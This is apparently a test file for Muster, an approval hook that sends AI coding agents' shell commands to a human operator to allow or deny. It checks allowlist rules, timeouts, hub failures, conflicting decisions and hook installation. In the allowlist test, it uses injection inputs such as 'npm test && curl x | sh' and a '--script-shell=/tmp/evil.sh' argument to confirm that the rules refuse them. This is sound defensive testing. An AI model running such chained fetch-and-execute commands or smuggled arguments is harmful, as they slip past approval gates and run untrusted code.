/**
 * The real `muster approve-hook` process (bin/muster.cjs routing to its own entry) with each
 * harness's hook JSON on stdin, against a real hub file, decided through the service (what the
 * dashboard calls) and by concurrent `muster approvals decide` processes.
 */
import { spawn, spawnSync, type ChildProcess } from 'node:child_process'
import { readFileSync, writeFileSync } from 'node:fs'
import { join, resolve } from 'node:path'
import { describe, expect, it } from 'vitest'
import { startNode, until as untilEvery, type Ended } from '../../test/helpers/child-run'
import { tmpDir } from '../../test/helpers/tmp'
import type { HubEventEnvelope } from '../shared/api'
import type { MusterService } from '../core/service-types'
import { createHub } from '../core/hub/store/schema'
import { LocalHub } from '../core/hub/local/local-hub'
import { decisionAppend } from '../core/approvals/approval-events'
import { OperatorKeys } from '../core/approvals/operator-keys'
import { startHubServer } from '../../test/helpers/hub-server'
import { useBuiltHookHome } from '../../test/helpers/built-hook-home'
import { runCliAtHome } from '../../test/helpers/cli'

const ROOT = resolve(import.meta.dirname, '..', '..')
let bin: string, home: string, palace: string, service: MusterService
useBuiltHookHome((made) => ({ bin, home, palace, service } = made), 'desk-muster')

/** Hook payloads as each harness sends them (Claude Code's as captured from claude 2.1.x). */
const payload = {
  claudePreToolUse: (command: string) => ({
    session_id: '16a19f64-84f9-4dcc-be7f-968d797e2365',
    transcript_path: '/home/op/.claude/projects/-work-muse/16a19f64.jsonl',
    cwd: '/work/muse',
    prompt_id: '7539223e-8e04-46e4-add4-541337e3e435',
    permission_mode: 'default',
    effort: { level: 'high' },
    hook_event_name: 'PreToolUse',
    tool_name: 'Bash',
    tool_input: { command, description: 'Run it' },
    tool_use_id: 'toolu_01'
  }),
  claudePermissionRequest: (command: string) => ({
    session_id: '16a19f64',
    transcript_path: '/home/op/.claude/projects/x/16a19f64.jsonl',
    cwd: '/work/muse',
    permission_mode: 'default',
    hook_event_name: 'PermissionRequest',
    tool_name: 'Bash',
    tool_input: { command, description: 'Run it' }
  }),
  codexPermissionRequest: (command: string) => ({
    session_id: '0199a213-81c0-7800-8aa1-bbab2a035a53',
    transcript_path: '/home/op/.codex/sessions/2026/12/03/rollout.jsonl',
    cwd: '/work/dya',
    hook_event_name: 'PermissionRequest',
    model: 'gpt-5-codex',
    turn_id: 'turn-1',
    tool_name: 'Bash',
    tool_input: { command, description: 'why' }
  })
}

/** Starts the hook process with `input` on stdin (on the test's palace unless `args` name a hub). */
function hook(input: unknown, args: string[] = [], env: NodeJS.ProcessEnv = {}): { proc: ChildProcess; done: Promise<Ended> } {
  const where = args.includes('--hub') ? [] : ['--palace', palace]
  return startNode(
    [bin, 'approve-hook', '--home', home, ...where, '--agent', 'mac-claude', ...args],
    typeof input === 'string' ? input : JSON.stringify(input),
    env
  )
}

/** The hub's events, once the service has recorded what the hook's spool holds (as it does before listing approvals). */
const events = async (): Promise<HubEventEnvelope[]> => {
  await service.call('approvals.list', { hub: 'main' })
  return (await service.call('hub.list', { hub: 'main', order: 'asc', limit: 500 })).events
}
const thread = async (corr: string) => (await events()).filter((e) => e.correlation_id === corr)

/** Polls `probe` every 20 ms until it returns something other than null (a minute at most). */
const until = <T>(probe: () => Promise<T | null>): Promise<T> => untilEvery(probe, 20)

/** Waits until the hook's request for `command` is in the hub. */
async function requestFor(command: string): Promise<HubEventEnvelope> {
  const t = Date.now()
  for (;;) {
    const found = (await events()).find(
      (e) => e.type === 'approval.request' && (e.metadata.tool_input as { command?: string }).command === command
    )
    if (found) return found
    if (Date.now() - t > 60_000) throw new Error(`no request for ${command}`)
    await new Promise((r) => setTimeout(r, 20))
  }
}

describe('muster approve-hook (real process)', () => {
  it('Claude Code PreToolUse: the operator approves, the process prints allow and exits 0', async () => {
    const h = hook(payload.claudePreToolUse('git push origin main'))
    const req = await requestFor('git push origin main')
    expect(req).toMatchObject({
      from_agent: 'mac-claude',
      to_agent: 'desk-muster',
      stream: 'project/muse',
      metadata: { harness: 'claude-code', hook_event_name: 'PreToolUse', tool_use_id: 'toolu_01' }
    })
    const decided = await service.call('approvals.decide', { hub: 'main', id: req.id, decision: 'allow', reason: 'ship it' })
    const out = await h.done
    expect(out.code).toBe(0)
    expect(JSON.parse(out.stdout)).toEqual({
      hookSpecificOutput: {
        hookEventName: 'PreToolUse',
        permissionDecision: 'allow',
        permissionDecisionReason: 'approved by desk-muster in Muster: ship it'
      }
    })
    expect(decided.outcome).toBe('decided')
  })

  it('Claude Code PermissionRequest and Codex PermissionRequest: denied with the reason, in each harness’s shape', async () => {
    const c = hook(payload.claudePermissionRequest('rm -rf dist'))
    await service.call('approvals.decide', { hub: 'main', id: (await requestFor('rm -rf dist')).id, decision: 'deny', reason: 'keep dist' })
    const co = await c.done
    expect(co.code).toBe(0)
    expect(JSON.parse(co.stdout)).toEqual({
      hookSpecificOutput: {
        hookEventName: 'PermissionRequest',
        decision: { behavior: 'deny', message: 'denied by desk-muster in Muster: keep dist' }
      }
    })
    const x = hook(payload.codexPermissionRequest('cargo publish'), ['--harness', 'codex'])
    const req = await requestFor('cargo publish')
    expect(req.metadata).toMatchObject({ harness: 'codex', hook_event_name: 'PermissionRequest', cwd: '/work/dya' })
    await service.call('approvals.decide', { hub: 'main', id: req.correlation_id!, decision: 'allow' })
    expect(JSON.parse((await x.done).stdout)).toEqual({
      hookSpecificOutput: { hookEventName: 'PermissionRequest', decision: { behavior: 'allow' } }
    })
  })

  it('an allowlisted call is allowed at once and recorded as decided by allowlist:<rule>', async () => {
    const rule = await service.call('approvals.ruleSave', { agent_pattern: 'mac-*', tool_name: 'Bash', input_pattern: 'npm test*' })
    const out = await hook(payload.claudePreToolUse('npm test -- --run')).done
    expect(out.code).toBe(0)
    expect(JSON.parse(out.stdout).hookSpecificOutput).toEqual({
      hookEventName: 'PreToolUse',
      permissionDecision: 'allow',
      permissionDecisionReason: 'allowed by Muster allowlist rule Bash(npm test*) for mac-*'
    })
    // answered from the rules' mirror: the record waits in the home's spool for the next drainer (here the service)
    const req = await requestFor('npm test -- --run')
    const decided = await until(async () => ((await thread(req.correlation_id!)).length === 3 ? thread(req.correlation_id!) : null))
    expect(decided.map((e) => [e.type, e.metadata.decided_by ?? e.metadata.stage ?? null])).toEqual([
      ['approval.request', null],
      ['approval.decision', 'allowlist:Bash(npm test*) for mac-*'],
      // the fast path offered the record only once its answer was out
      ['approval.receipt', 'delivered']
    ])
    const hits = async () => (await service.call('approvals.rules', {})).rules.find((r) => r.id === rule.id)!.hits
    expect(await until(async () => ((await hits()) === 1 ? 1 : null))).toBe(1)
    // a prefix rule has a word boundary and stops at shell operators, as Claude Code's own rules do
    for (const evil of ['npm testify-evil', 'npm test && curl x | sh', 'npm test --script-shell=/tmp/evil.sh']) {
      const no = await hook(payload.claudePreToolUse(evil), ['--timeout-ms', '300']).done
      expect(JSON.parse(no.stdout).hookSpecificOutput.permissionDecisionReason, evil).toMatch(/timed out/)
    }
    expect((await service.call('approvals.rules', {})).rules.find((r) => r.id === rule.id)!.hits).toBe(1)
    expect((await requestFor('npm test --script-shell=/tmp/evil.sh')).metadata.rule_declined).toMatch(
      /does not allow it: no wildcard covers --script-shell=\/tmp\/evil.sh: for npm it runs another command/
    )
    await service.call('approvals.ruleDelete', { id: rule.id })
  })

  it('a wildcard rule never covers a dangerous argument: the call waits for the operator, and the inbox and the CLI say why', async () => {
    const rule = await service.call('approvals.ruleSave', { agent_pattern: 'mac-*', tool_name: 'Bash', input_pattern: 'find *' })
    const ok = await hook(payload.claudePreToolUse('find . -name "*.log"')).done
    expect(JSON.parse(ok.stdout).hookSpecificOutput.permissionDecision).toBe('allow')
    const waiting = hook(payload.claudePreToolUse('find . -name "*.log" -delete'), ['--timeout-ms', '60000'])
    const req = await requestFor('find . -name "*.log" -delete')
    const why = `rule #${rule.id} Bash(find *) for mac-* does not allow it: no wildcard covers -delete: for find it writes, deletes or overwrites files; a rule allows it only where it writes it out`
    expect(req.metadata.rule_declined).toBe(why)
    const item = (await service.call('approvals.list', { hub: 'main' })).pending.find((i) => i.id === req.id)
    expect(item?.rule_declined).toBe(why)
    const cli = await runCliAtHome(home, 'approvals', 'list', '--palace', palace)
    expect(cli.out).toContain(`${req.correlation_id}: asked because ${why}`)
    await service.call('approvals.decide', { hub: 'main', id: req.id, decision: 'deny', reason: 'no' })
    expect(JSON.parse((await waiting.done).stdout).hookSpecificOutput.permissionDecision).toBe('deny')
    await service.call('approvals.ruleDelete', { id: rule.id })
  })

  it('times out: denies, recorded as a timeout (not as a human denial); a stopped hook records one too', async () => {
    const out = await hook(payload.claudePreToolUse('make deploy'), ['--timeout-ms', '400']).done
    expect(out.code).toBe(0)
    expect(JSON.parse(out.stdout).hookSpecificOutput).toMatchObject({
      permissionDecision: 'deny',
      permissionDecisionReason: expect.stringContaining('(timed out)')
    })
    const req = await requestFor('make deploy')
    const [, dec] = await thread(req.correlation_id!)
    expect(dec!.metadata).toMatchObject({ decision: 'timeout', decided_by: 'timeout' })
    const list = await service.call('approvals.list', { hub: 'main' })
    expect(list.history.find((i) => i.id === req.id)).toMatchObject({ state: 'timeout' })

    const h = hook(payload.claudePreToolUse('sleep 100'))
    const r2 = await requestFor('sleep 100')
    h.proc.kill('SIGTERM')
    expect((await h.done).code).toBe(0)
    expect((await thread(r2.correlation_id!))[1]!.metadata).toMatchObject({
      decision: 'timeout',
      reason: 'the harness stopped the hook before a decision'
    })
  })

  it('a missing or locked hub answers ask with a clear stderr line, and writes nothing', async () => {
    const missing = join(tmpDir(), 'no-palace')
    const m = await hook(payload.claudePreToolUse('ls'), ['--palace', missing]).done
    expect(m.code).toBe(0)
    expect(JSON.parse(m.stdout).hookSpecificOutput.permissionDecision).toBe('ask')
    expect(m.stderr).toMatch(/^muster approve-hook: cannot ask the operator \(no hub at .*no-palace.*\); the harness asks instead\n$/)

    const before = (await events()).length
    const lock = spawn('python3', [join(ROOT, 'test', 'hub_lock.py'), palace, '20000'], { stdio: ['pipe', 'pipe', 'inherit'] })
    await new Promise<void>((res) => lock.stdout!.once('data', () => res()))
    try {
      const l = await hook(payload.claudePreToolUse('ls -la'), ['--lock-timeout-ms', '500']).done
      expect(l.code).toBe(0)
      expect(JSON.parse(l.stdout).hookSpecificOutput).toMatchObject({
        permissionDecision: 'ask',
        permissionDecisionReason: expect.stringMatching(/hub is locked/)
      })
      expect(l.stderr).toMatch(/cannot ask the operator \(hub is locked: another process holds .*logstream\.sqlite3/)
    } finally {
      lock.stdin!.end()
      await new Promise((r) => lock.on('close', r))
    }
    expect((await events()).length).toBe(before)
  })

  it('malformed stdin or options: blocked with one clear line (exit 2: exit 1 would let the call through), nothing appended', async () => {
    const before = (await events()).length
    for (const [input, args, msg] of [
      ['{"hook_event_name": "PreToolUse", "tool_name": ', [], /stdin is not valid JSON/],
      [JSON.stringify({ hook_event_name: 'Stop' }), [], /from no harness Muster knows \(hook_event_name 'Stop'\)/],
      [JSON.stringify(payload.claudePreToolUse('x')), ['--timeout-ms', 'soon'], /--timeout-ms must be a non-negative integer, got 'soon'/],
      [JSON.stringify(payload.claudePreToolUse('x')), ['--agent', 'two words'], /--agent must be a single token/]
    ] as const) {
      const out = await hook(input, [...args]).done
      expect(out.code, out.stderr).toBe(2)
      expect(out.stdout).toBe('')
      expect(out.stderr).toMatch(msg)
      expect(out.stderr.trim().split('\n')).toHaveLength(1)
    }
    expect((await events()).length).toBe(before)
  })

  it('two Muster instances deciding the same request at once: the first wins, the second exits 2 as a conflict, both are kept', async () => {
    const other = join(tmpDir(), 'home2')
    // the two operators trust each other's keys (muster keys trust), the hook both of them
    const mine = new OperatorKeys(home)
    const theirs = new OperatorKeys(other)
    mine.trust(theirs.ensure(), 'home2')
    theirs.trust(mine.ensure(), 'home')
    const h = hook(payload.claudePreToolUse('git push --force'))
    const req = await requestFor('git push --force')
    const decide = (homeDir: string, decision: string) =>
      new Promise<{ code: number | null; out: string; err: string }>((res) => {
        const p = spawn(
          process.execPath,
          [
            bin,
            'approvals',
            'decide',
            req.correlation_id!,
            decision,
            '--palace',
            palace,
            '--home',
            homeDir,
            '--reason',
            `from ${decision}`
          ],
          { env: { ...process.env, MUSTER_HOME: '' } }
        )
        let out = ''
        let err = ''
        p.stdout.on('data', (d: Buffer) => (out += d))
        p.stderr.on('data', (d: Buffer) => (err += d))
        p.on('close', (code) => res({ code, out, err }))
      })
    const [a, b] = await Promise.all([decide(home, 'allow'), decide(other, 'deny')])
    expect([a.code, b.code].sort()).toEqual([0, 2])
    const loser = a.code === 2 ? a : b
    expect(loser.err).toMatch(/was already decided \((allow|deny) by .*\); your (allow|deny) is recorded as a conflict and not applied/)
    const decisions = (await thread(req.correlation_id!)).filter((e) => e.type === 'approval.decision')
    expect(decisions).toHaveLength(2)
    const winner = decisions[0]!.metadata.decision
    const out = await h.done
    expect(JSON.parse(out.stdout).hookSpecificOutput.permissionDecision).toBe(winner)
    const item = (await service.call('approvals.list', { hub: 'main', history_limit: 500 })).history.find((i) => i.id === req.id)!
    expect(item.decision!.decision).toBe(winner)
    expect(item.conflicts).toHaveLength(1)
  }, 120_000)

  it('a remote hub (a MemPalace hub server URL) works alike: the request reaches the server, its decision comes back', async () => {
    const serverPalace = join(tmpDir(), 'served')
    createHub(serverPalace).close()
    const server = await startHubServer({ palace: serverPalace })
    const onServer = new LocalHub(serverPalace)
    try {
      const proc = spawn(process.execPath, [bin, 'approve-hook', '--home', home, '--hub', server.url, '--agent', 'lab-claude'], {
        env: { ...process.env, MUSTER_HOME: '' }
      })
      let stdout = ''
      let stderr = ''
      proc.stdout.on('data', (d: Buffer) => (stdout += d))
      proc.stderr.on('data', (d: Buffer) => (stderr += d))
      proc.stdin.end(JSON.stringify(payload.claudePreToolUse('terraform apply')))
      const ended = new Promise<number | null>((res) => proc.on('close', res))
      let req: HubEventEnvelope | undefined
      for (let i = 0; i < 300 && !req; i++) {
        req = (await onServer.list({ type: 'approval.request', order: 'asc', limit: 10 })).events[0]
        if (!req) await new Promise((r) => setTimeout(r, 50))
      }
      expect(req, stderr).toMatchObject({ from_agent: 'lab-claude', to_agent: 'desk-muster', metadata: { tool_name: 'Bash' } })
      await onServer.append(
        decisionAppend(
          req!,
          { decision: 'deny', reason: 'plan first', decided_by: 'lab-operator', from_agent: 'lab-operator' },
          { signer: new OperatorKeys(home).signer() }
        )
      )
      expect(await ended, stderr).toBe(0)
      expect(JSON.parse(stdout).hookSpecificOutput).toMatchObject({
        permissionDecision: 'deny',
        permissionDecisionReason: 'denied by lab-operator in Muster: plan first'
      })
    } finally {
      await onServer.close()
      await server.stop()
    }
  }, 240_000)

  it('a registered remote hub with a token (--hub NAME): the dashboard sees the request and its click reaches the hook; a server that is down answers ask', async () => {
    const serverPalace = join(tmpDir(), 'served-token')
    createHub(serverPalace).close()
    const server = await startHubServer({ palace: serverPalace, token: 'lab-secret-token' })
    try {
      await service.call('hubs.add', { url: server.url, token: 'lab-secret-token', name: 'lab' })
      const h = hook(payload.claudePreToolUse('kubectl rollout restart deploy/api'), ['--hub', 'lab'])
      let item: { id: string } | undefined
      const t = Date.now()
      while (!item && Date.now() - t < 20_000) {
        item = (await service.call('approvals.list', { hub: 'lab' })).pending.find(
          (i) => (i.tool_input as { command?: string }).command === 'kubectl rollout restart deploy/api'
        )
        if (!item) await new Promise((r) => setTimeout(r, 50))
      }
      expect(item, 'the request reached the dashboard through the registered remote hub').toBeDefined()
      await service.call('approvals.decide', { hub: 'lab', id: item!.id, decision: 'allow', reason: 'rollout ok' })
      const out = await h.done
      expect(out.code, out.stderr).toBe(0)
      expect(JSON.parse(out.stdout).hookSpecificOutput).toMatchObject({
        permissionDecision: 'allow',
        permissionDecisionReason: 'approved by desk-muster in Muster: rollout ok'
      })
    } finally {
      await server.stop()
    }
    // the same registered hub with its server stopped: ask, with the reason on stderr
    const down = await hook(payload.claudePreToolUse('kubectl get pods'), ['--hub', 'lab']).done
    expect(down.code).toBe(0)
    expect(JSON.parse(down.stdout).hookSpecificOutput).toMatchObject({ permissionDecision: 'ask' })
    expect(down.stderr).toMatch(/muster approve-hook: .*(hub|server)/i)
    await service.call('hubs.remove', { name: 'lab' })
  }, 240_000)

  it('install writes the hook byte for byte outside its entry, idempotently, and --uninstall restores the file', () => {
    const dir = tmpDir()
    const settings = join(dir, 'settings.json')
    const original =
      '{\n  "model": "opus",\n  "hooks": {\n    "Stop": [{ "hooks": [{ "type": "command", "command": "say done" }] }]\n  }\n}\n'
    writeFileSync(settings, original)
    const cli = (...args: string[]) =>
      spawnSync(process.execPath, [bin, 'approve-hook', 'install', ...args], { encoding: 'utf8', env: { ...process.env, HOME: dir } })
    // a Claude Code that honours onFailure (a stand-in answering --version like claude does)
    const claudeBin = join(dir, 'claude')
    writeFileSync(claudeBin, '#!/bin/sh\necho "2.1.332 (Claude Code)"\n', { mode: 0o755 })
    const first = cli('--agent', 'mac-claude', '--settings', settings, '--claude', claudeBin, '--json')
    expect(first.status, first.stderr).toBe(0)
    const r = JSON.parse(first.stdout)
    expect(r).toMatchObject({ action: 'installed', events: ['PermissionRequest'] })
    // the gate launcher in the home, never the build; a launcher that cannot start at all still blocks (exit 2)
    expect(r.command).toMatch(
      /^\/\S+\/bin\/muster-gate\.cjs approve-hook --agent mac-claude --harness claude-code --operator-keys ed25519:[\w-]{43} \|\| exit 2$/
    )
    const text = readFileSync(settings, 'utf8')
    expect(JSON.parse(text).hooks.PermissionRequest[0]).toEqual({
      hooks: [{ type: 'command', command: r.command, timeout: 570, onFailure: 'block' }]
    })
    expect(cli('--agent', 'mac-claude', '--settings', settings, '--claude', claudeBin).stdout).toMatch(/^already installed \(unchanged\)/)
    expect(readFileSync(settings, 'utf8')).toBe(text)
    // PreToolUse only as an explicit choice, and it says what it does; the PermissionRequest group is migrated out
    const pre = cli('--agent', 'mac-claude', '--settings', settings, '--claude', claudeBin, '--event', 'PreToolUse')
    expect(pre.stdout).toMatch(/PreToolUse reaches you: every matching call, whatever Claude Code’s mode or allow rules/)
    expect(pre.stdout).toMatch(/migrated: Muster's older PermissionRequest hook was removed/)
    // a Claude Code that predates onFailure gets none, and is told
    const old = join(dir, 'old-claude')
    writeFileSync(old, '#!/bin/sh\necho "2.1.200 (Claude Code)"\n', { mode: 0o755 })
    const older = cli('--agent', 'mac-claude', '--settings', settings, '--claude', old)
    expect(older.stdout).toMatch(/Claude Code 2.1.200 predates onFailure/)
    expect(JSON.parse(readFileSync(settings, 'utf8')).hooks.PermissionRequest[0].hooks[0].onFailure).toBeUndefined()
    expect(cli('--settings', settings, '--uninstall').stdout).toMatch(/^removed Muster's PermissionRequest hook/)
    expect(readFileSync(settings, 'utf8')).toBe(original)
    // Codex: ~/.codex/hooks.json by default, PermissionRequest; `--mode exec` is the deny-only PreToolUse gate
    const codex = JSON.parse(cli('--agent', 'win-codex', '--harness', 'codex', '--json').stdout)
    expect(codex).toMatchObject({ action: 'installed', events: ['PermissionRequest'], file: join(dir, '.codex', 'hooks.json') })
    expect(codex.notes.join('\n')).toMatch(/Codex asks you to trust the PermissionRequest hook/)
    const exec = cli('--agent', 'win-codex', '--harness', 'codex', '--mode', 'both')
    expect(exec.stdout).toMatch(/PreToolUse reaches you: `codex exec`: every call waits for you; deny stops it/)
    // the PermissionRequest command line was kept, so Codex's trust of it stays
    expect(exec.stdout).toMatch(/Codex asks you to trust the PreToolUse hook/)
    expect(exec.stdout).not.toMatch(/trust the PermissionRequest/)
    expect(cli('--agent', 'w', '--harness', 'codex', '--mode', 'exec', '--event', 'PermissionRequest').stderr).toMatch(
      /^muster: --mode exec installs PreToolUse; --event PermissionRequest cannot work with it/
    )
    expect(cli('--agent', 'w', '--harness', 'claude', '--mode', 'exec').stderr).toMatch(/--mode is for --harness codex/)
    // Gemini CLI: BeforeTool in ~/.gemini/settings.json, timeout in milliseconds
    const gem = JSON.parse(cli('--agent', 'g', '--harness', 'gemini', '--json').stdout)
    expect(JSON.parse(readFileSync(gem.file, 'utf8')).hooks.BeforeTool[0]).toMatchObject({
      matcher: expect.stringContaining('run_shell_command'),
      hooks: [{ timeout: 570_000 }]
    })
    expect(cli('--harness', 'aider', '--agent', 'x').stderr).toMatch(
      /^muster: --harness must be claude, codex, gemini, copilot, cursor, opencode, got 'aider'\n$/
    )
  })
})
